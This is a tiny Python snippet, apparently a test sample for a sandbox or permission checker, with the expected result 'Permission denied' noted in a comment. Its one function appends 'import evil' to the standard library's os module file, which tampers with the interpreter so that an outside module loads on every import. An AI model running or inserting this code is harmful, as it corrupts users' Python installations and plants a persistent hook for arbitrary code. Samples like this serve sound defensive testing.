# error: Permission denied
import os
def f(x):
    return open(os.__file__, "a").write("\nimport evil\n")
